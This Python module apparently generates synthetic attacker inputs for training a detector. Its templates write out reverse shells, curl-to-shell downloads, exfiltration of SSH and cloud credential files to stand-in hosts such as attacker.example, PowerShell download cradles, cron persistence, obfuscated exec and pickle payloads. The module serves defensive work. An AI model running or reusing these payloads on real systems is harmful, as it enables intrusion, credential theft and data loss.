"""Texts that attackers pass: commands, code, URLs, paths.

All inert: nothing here is ever executed by the project, and hosts are reserved names (example.com, 127.0.0.1,
192.0.2.0/24).

Each text is put together from parts, so that a net cannot learn it by heart.
"""

from __future__ import annotations

import base64
import warnings
import zlib
from types import CodeType

from train.corpus.draw import Draw

WORDS = [
    "alpha",
    "beta",
    "cache",
    "data",
    "demo",
    "done",
    "drop",
    "evil",
    "flag",
    "gamma",
    "hello",
    "info",
    "init",
    "job",
    "key",
    "log",
    "main",
    "marker",
    "mem",
    "model",
    "node",
    "out",
    "owned",
    "patch",
    "pay",
    "poc",
    "proof",
    "pwn",
    "pwned",
    "result",
    "rick",
    "root",
    "run",
    "sample",
    "shell",
    "stage",
    "state",
    "sys",
    "tag",
    "temp",
    "test",
    "tmp",
    "token",
    "touch",
    "trace",
    "update",
    "upd",
    "user",
    "vault",
    "vuln",
    "win",
    "work",
    "x",
    "zed",
    "you_have_been_hacked",
    "hacked",
    "malicious",
    "bad",
    "boom",
    "canary",
    "exploit",
]
_PLAIN = """
    accuracy adapter anchors archive article assets audio average backbone baseline batch best bias block book
    boundary bucket budget calendar camera campaign catalog center channel chart checkpoint city classes client
    cluster columns config contact context corpus country course customer daily dataset decoder default dense depth
    detector device dictionary district document draft edges embeddings encoder engine entity epoch estimator event
    example experiment export features field filters final fold forest frame generator genre graph grid header
    history house image index invoice item journal kernel labels latest layer ledger lesson letter lexicon library
    license lookup mapping market matrix mean measure member merged message meta metrics mirror module monthly movie
    music network notes offset orders outline overview packet page panel params partition patient payment people
    phase photo pipeline plan player points policy portfolio price product profile project prompt protein quality
    quarter query raw reader recipe record region release replica report resnet resource response review river sales
    scaler schedule schema season segment sensor sequence series server session shard shop sizes small spectrum
    speech sprint staff station statistics store stream street student summary survey table target task team
    template ticket timeline topic track trades train translation tree trial tutorial units usage valid values
    vectors vehicle version video visitors vocab volume voyage warehouse weather weekly weights window worker yearly
    zone
"""
PLAIN_WORDS = _PLAIN.split()
"""What honest files are called: who does not want to be noticed takes such names."""
PLAIN_SHARE = 0.5
"""Share of words, and of folders, that are plain (probability)."""
HOSTS = (
    "example.com", "example.org", "c2.example.com", "files.example.net", "attacker.example", "evil.example.com",
    "mirror.example.com", "cdn.example.org", "models.example.net", "hub.example.com", "api.example.com",
    "www.example.net", "static.example.org", "downloads.example.com", "git.example.org", "data.example.net",
)  # fmt: skip
ENDINGS = (
    "txt", "sh", "py", "bin", "log", "json", "exe", "pkl", "dat", "pth", "so", "dll", "ps1", "zip", "jpg", "out", "pt",
    "ckpt", "h5", "npy", "npz", "csv", "parquet", "yaml", "toml", "onnx", "joblib", "tar.gz", "model", "html", "cfg",
    "ini", "db", "png", "md", "gz", "pickle", "safetensors",
)  # fmt: skip
FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", "~", "/home/user", "/root", ".", "..", "/etc/cron.d", "/opt/app", "C:\\Temp")
PLAIN_FOLDERS = (
    "weights", "data", "data/raw", "models", "checkpoints", "configs", "assets", "artifacts", "output", "cache", "logs",
    "runs/exp", "src", "results", "./weights", "../data", "/data", "/mnt/data", "/opt/ml/model", "/workspace",
    "/content", "/srv/app", "/usr/share", "/app/models", "~/models", "~/.cache/hub", "C:/data", "D:\\work",
)  # fmt: skip
SECRETS = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "~/.ssh/id_rsa",
    "~/.aws/credentials",
    "~/.bash_history",
    "~/.netrc",
    ".env",
    "/proc/self/environ",
    "~/.kube/config",
    "~/.docker/config.json",
    "/flag",
    "flag.txt",
    "./flag",
    "/app/flag.txt",
    "secret.txt",
    "~/.config/gcloud/credentials.db",
    "/var/run/secrets/token",
    "C:\\Windows\\win.ini",
    "~/.git-credentials",
]
PERSISTENT = [
    "~/.bashrc",
    "~/.profile",
    "~/.ssh/authorized_keys",
    "/etc/crontab",
    "~/.config/autostart/a.desktop",
    "sitecustomize.py",
    "usercustomize.py",
    "evil.pth",
    "__init__.py",
    "setup.py",
    "conftest.py",
    "~/.local/lib/python3.11/site-packages/x.pth",
    "Makefile",
]
PROGRAMS = [
    "id",
    "whoami",
    "ls",
    "pwd",
    "uname",
    "hostname",
    "date",
    "env",
    "ps",
    "ifconfig",
    "netstat",
    "calc",
    "calc.exe",
    "notepad.exe",
    "xcalc",
    "gnome-calculator",
    "true",
    "sleep",
    "dir",
    "ipconfig",
    "systeminfo",
    "open",
    "touch",
    "cat",
    "echo",
    "ping",
    "cal",
    "df",
    "mount",
    "last",
    "w",
    "uptime",
    "printenv",
    "lsof",
    "sh",
    "bash",
]


PROOFS = [
    "id", "whoami", "ls", "ls -la", "pwd", "date", "true", "uname -a", "calc", "sleep 5", "echo hi", "echo pwned",
    "echo $HOME", "x; echo hi #", "echo test", "echo 1",
]  # fmt: skip
"""Commands that only show that a command ran."""
CODE_PROOFS = [
    "1+1", "2*21", "1", "42", "None", "True", "''", "[]", "{}", "x", "print(1)", "print('hi')", "print('pwned')",
    "lambda: 0", "__import__('os')", "dict()", "int('7')", "len('abc')", "open", "id(0)",
]  # fmt: skip
"""Expressions that only show that code ran."""
PROOF_SHARE = 0.15
"""Share of commands and sources that are such a proof (probability)."""


def word(rng: Draw) -> str:
    """Return a file or marker name without ending."""
    words = PLAIN_WORDS if rng.random() < PLAIN_SHARE else WORDS
    base = rng.choice(words)
    kind = rng.randrange(5)
    if kind == 0:
        return f"{base}_{rng.choice(words)}"
    if kind == 1:
        return f"{base}{rng.randrange(1000)}"
    if kind == 2:
        return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randrange(3, 9)))
    return base.upper() if kind == 3 and rng.random() < 0.5 else base


def address(rng: Draw) -> str:
    """Return a host or an IP address."""
    if rng.random() < 0.4:
        return rng.choice(HOSTS)
    return rng.choice(("127.0.0.1", "localhost", f"192.0.2.{rng.randrange(256)}", f"198.51.100.{rng.randrange(256)}"))


def port(rng: Draw) -> int:
    """Return a port."""
    return rng.choice((22, 25, 53, 80, 443, 1234, 1337, 4242, 4444, 5555, 8000, 8080, 9001, 9999, rng.randrange(65536)))


def url(rng: Draw) -> str:
    """Return a URL."""
    scheme = rng.choice(("http", "https", "http", "https", "ftp", "file"))
    host = address(rng)
    where = f"{host}:{port(rng)}" if rng.random() < 0.35 else host
    tail = rng.choice(("", "/", f"/{word(rng)}", f"/{word(rng)}.{rng.choice(ENDINGS)}", f"/{word(rng)}/{word(rng)}"))
    query = rng.choice(("", "", "", f"?{word(rng)}={word(rng)}", f"?id={rng.randrange(10**6)}"))
    return f"{scheme}://{where}{tail}{query}"


def path(rng: Draw) -> str:
    """Return the path of a file."""
    kind = rng.randrange(6)
    if kind == 0:
        return rng.choice(SECRETS)
    if kind == 1:
        return rng.choice(PERSISTENT)
    folder = rng.choice(PLAIN_FOLDERS if rng.random() < PLAIN_SHARE else FOLDERS)
    return f"{folder}/{word(rng)}" + (f".{rng.choice(ENDINGS)}" if rng.random() < 0.75 else "")


def argv(rng: Draw) -> list[str]:
    """Return a command as a list."""
    kind = rng.randrange(6)
    if kind == 0:
        return [
            rng.choice(("/bin/sh", "sh", "bash", "/bin/bash", "cmd.exe")),
            rng.choice(("-c", "-c", "/c")),
            command(rng),
        ]
    if kind == 1:
        return [rng.choice(("python", "python3", "/usr/bin/python3")), "-c", code(rng)]
    if kind == 2:
        return [rng.choice(PROGRAMS)]
    if kind == 3:
        return ["touch", path(rng)]
    if kind == 4:
        return [rng.choice(("curl", "wget", "nc", "ncat")), rng.choice((url(rng), address(rng))), str(port(rng))]
    return command(rng).split(" ")


def command(rng: Draw) -> str:
    """Return a shell command."""
    if rng.random() < PROOF_SHARE:
        return rng.choice(PROOFS)
    text = _simple_command(rng)
    for _ in range(rng.choice((0, 0, 0, 1, 1, 2))):
        text += rng.choice((" && ", "; ", " || ", " | ", " ; ", " & ")) + _simple_command(rng)
    kind = rng.randrange(14)
    if kind == 0:
        text = f"{rng.choice(('sh', 'bash', '/bin/sh', '/bin/bash'))} -c {rng.choice((repr, _quoted))(text)}"
    elif kind == 1:
        text = f"echo {base64.b64encode(text.encode()).decode()} | base64 -d | {rng.choice(('sh', 'bash'))}"
    elif kind == 2:
        text += rng.choice((" &", " > /dev/null 2>&1", " 2>&1", f" > {path(rng)}", f" >> {path(rng)}"))
    elif kind == 3:
        text = rng.choice(("nohup ", "sudo ", "cmd /c ", "setsid ", "exec ", "start ", "/usr/bin/env ")) + text
    return text


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '\\"') + '"'


def _simple_command(rng: Draw) -> str:
    w, p, u, a = word(rng), path(rng), url(rng), address(rng)
    return rng.template(
        (
            lambda: rng.choice(PROGRAMS),
            lambda: f"{rng.choice(PROGRAMS)} {rng.choice(('-a', '-la', '-l', '-r', '--help', p, w))}",
            lambda: f"echo {rng.choice((w, repr(w), _quoted(w + ' ' + word(rng)), '$(id)', '`whoami`', '$HOME'))}",
            lambda: f"echo {w} {rng.choice(('>', '>>'))} {p}",
            lambda: f"touch {p}",
            lambda: f"cat {rng.choice(SECRETS)}",
            lambda: f"rm {rng.choice(('-rf', '-f', '-r', ''))} {p}",
            lambda: f"curl {rng.choice(('-s', '-fsSL', '-X POST', '-O', '-k'))} {u}",
            lambda: f"curl {u} | {rng.choice(('sh', 'bash', 'python3'))}",
            lambda: f"curl -X POST -d @{rng.choice(SECRETS)} {u}",
            lambda: f"wget {rng.choice(('-q', '-qO-', f'-O {p}'))} {u}",
            lambda: f"bash -i >& /dev/tcp/{a}/{port(rng)} 0>&1",
            lambda: f"nc {rng.choice(('-e /bin/sh', '-lvp', '-nv', '-c bash'))} {a} {port(rng)}",
            lambda: f"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {a} {port(rng)} > /tmp/f",
            lambda: f"python{rng.choice(('', '3'))} -c {rng.choice((repr, _quoted))(code(rng))}",
            lambda: f"powershell {rng.choice(('-enc', '-e', '-EncodedCommand'))} {_encoded_utf16(command_text(rng))}",
            lambda: f"powershell -c {_quoted(f'IEX(New-Object Net.WebClient).DownloadString({u!r})')}",
            lambda: f"chmod +x {p} && {p}",
            lambda: f"ping -c {rng.randrange(1, 9)} {a}",
            lambda: f"sleep {rng.randrange(1, 99)}",
            lambda: f"(crontab -l; echo '* * * * * {p}') | crontab -",
            lambda: f"pip install {rng.choice((u, w, f'--index-url {u} {w}'))}",
            lambda: f"git clone {u}",
            lambda: f"ssh {w}@{a}",
            lambda: f"cp {p} {path(rng)}",
            lambda: f"find / -name {w} 2>/dev/null",
            lambda: f"nslookup $(whoami).{a}",
            lambda: f"kill -9 {rng.randrange(1, 9999)}",
            lambda: f"export {w.upper()}={p}",
            lambda: f"tar czf - {p} | curl -T - {u}",
            lambda: f"python {p}",
            lambda: f"make -C {p} {w}",
            lambda: f"{w} --{word(rng)} {p}",
            lambda: f"{w} {word(rng)}",
            lambda: f"mv {p} {path(rng)}",
            lambda: f"tar xf {p} -C {path(rng)}",
        )
    )()


def command_text(rng: Draw) -> str:
    """Return something short to encode."""
    return rng.choice((f"echo {word(rng)}", f"calc.exe {word(rng)}", f"iwr {url(rng)}"))


def _encoded_utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def code(rng: Draw, expression: bool = False) -> str:
    """Return Python source; one that `eval` takes if `expression`."""
    if rng.random() < PROOF_SHARE:
        return rng.choice(CODE_PROOFS)
    if expression or rng.random() < 0.4:
        return _expression(rng)
    text = _statements(rng)
    if rng.random() < 0.2:
        text = rng.choice((";", "\n")).join((text, _statements(rng)))
    if rng.random() < 0.1:
        text = f"try:\n    {text.replace(chr(10), chr(10) + '    ')}\nexcept Exception:\n    pass\n"
    return text


def _expression(rng: Draw) -> str:
    c, q = command(rng), rng.choice((repr, _quoted))
    inner = rng.template(
        (
            lambda: f"__import__('os').system({q(c)})",
            lambda: f'__import__("os").popen({c!r}).read()',
            lambda: f"__import__('subprocess').{rng.choice(('call', 'run', 'Popen', 'check_output'))}({argv(rng)!r})",
            lambda: f"__import__('subprocess').getoutput({q(c)})",
            lambda: f"os.system({q(c)})",
            lambda: f"print({q(word(rng))})",
            lambda: f"exec({code_literal(rng)})",
            lambda: f"open({path(rng)!r}{rng.choice(('', ', ' + repr('w')))}).{rng.choice(('read()', 'write(1)'))}",
            lambda: f"__import__('urllib.request').request.urlopen({url(rng)!r}).read()",
            lambda: f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__=={word(rng)!r}][0]()",
            lambda: f"__builtins__.__import__({q('os')}).{rng.choice(('getcwd()', 'listdir()', 'getpid()'))}",
            lambda: f"(lambda {word(rng)[0]}: __import__('os').system({q(c)}))(0)",
            lambda: f"globals().update({{{word(rng)!r}: {rng.randrange(99)}}})",
            lambda: f"{rng.randrange(99)}{rng.choice('+*-')}{rng.randrange(99)}",
            lambda: f"getattr(__import__('os'), {'sys' + 'tem'!r})({q(c)})",
            lambda: f"__import__('sys').exit({rng.randrange(9)})",
            lambda: f"setattr(__import__({rng.choice(('builtins', 'torch', 'sys'))!r}), {word(rng)!r}, {word(rng)!r})",
            lambda: f"compile({q(word(rng) + '=1')}, {q('<string>')}, 'exec')",
        )
    )()
    if rng.random() < 0.1:
        return f"{inner} or {rng.choice(('{}', 'None', 'dict()', '[]'))}"
    return inner


def compiled(source: str, file: str = "<string>") -> CodeType:
    """Return the code object of a source, which is never run; its warnings are nobody's concern.

    Raises:
        SyntaxError: it is no Python.
        ValueError: there is a null byte in it.
    """
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return compile(source, file, "exec")


def code_literal(rng: Draw) -> str:
    """Return an expression that decodes to source."""
    raw = rng.choice((f"print({word(rng)!r})", f"import os; os.system({('echo ' + word(rng))!r})")).encode()
    return rng.template(
        (
            lambda: f"__import__('base64').b64decode({base64.b64encode(raw)!r})",
            lambda: f"bytes.fromhex({raw.hex()!r})",
            lambda: f"__import__('zlib').decompress({zlib.compress(raw)!r})",
            lambda: f"''.join(map(chr, {list(raw)!r}))",
            lambda: f"{raw.decode()[::-1]!r}[::-1]",
        )
    )()


def _statements(rng: Draw) -> str:
    w, c, p, u, a, n = word(rng), command(rng), path(rng), url(rng), address(rng), port(rng)
    f = rng.choice(("f", "fh", "out", "fp"))
    return rng.template(
        (
            lambda: f"import os{rng.choice((';', chr(10)))}os.system({c!r})",
            lambda: f"from os import system as {w}\n{w}({c!r})",
            lambda: f"import subprocess\nsubprocess.{rng.choice(('run', 'call', 'Popen'))}({c!r}, shell=True)",
            lambda: f"import subprocess; subprocess.Popen({argv(rng)!r})",
            lambda: (
                f"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                f"s.connect(({a!r},{n}));"
                "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
                f"{rng.choice(('import pty;pty.spawn', 'subprocess.call'))}({rng.choice(('/bin/sh', '/bin/bash'))!r})"
            ),
            lambda: (
                f"import socket\ns = socket.socket()\ns.connect(({a!r}, {n}))\n"
                f"s.{rng.choice(('send', 'sendall'))}(open({rng.choice(SECRETS)!r}, 'rb').read())"
            ),
            lambda: f"with open({p!r}, {rng.choice('wa')!r}) as {f}:\n    {f}.write({w!r})\n",
            lambda: f"open({p!r},'w').write({c!r})",
            lambda: f"import urllib.request\nurllib.request.urlopen({u!r})",
            lambda: f"import urllib.request as r; exec(r.urlopen({u!r}).read())",
            lambda: f"import requests\nrequests.post({u!r}, {rng.choice(('data', 'json'))}=dict(os.environ))",
            lambda: f"import os, json\nprint(json.dumps(dict(os.environ)))  # {w}",
            lambda: f"exec({code_literal(rng)})",
            lambda: f"import builtins\nbuiltins.{w} = {rng.randrange(100)}",
            lambda: f"import sys\nsys.modules[{w!r}] = None\nsys.path.insert(0, {p!r})",
            lambda: f"import threading\nthreading.Thread(target=lambda: __import__('os').system({c!r})).start()",
            lambda: f"def {w}(*a, **k):\n    import os\n    return os.popen({c!r}).read()\n{w}()",
            lambda: f"class {w.title()}:\n    def __reduce__(self):\n        return (eval, ({w!r},))\n",
            lambda: f"import ctypes\nctypes.CDLL({p!r})",
            lambda: f"import shutil\nshutil.rmtree({p!r}, ignore_errors=True)",
            lambda: f"raise Exception({w!r})",
            lambda: f"print({w!r})",
            lambda: f"import torch\ntorch.load = lambda *a, **k: None  # {w}",
            lambda: f"for {w[0]} in range({rng.randrange(99)}):\n    print({w[0]})",
            lambda: f"import time; time.sleep({rng.randrange(100)})",
            lambda: f"import os\nos.remove({p!r})",
            lambda: f"import pty; pty.spawn({rng.choice(('/bin/bash', '/bin/sh'))!r})",
            lambda: f"global {w}\n{w} = __import__('os').environ.get({w.upper()!r})",
            lambda: f"import webbrowser\nwebbrowser.open({u!r})",
            lambda: f"import {rng.choice(('pdb; pdb.set_trace()', 'this', 'antigravity', 'code; code.interact()'))}",
        )
    )()
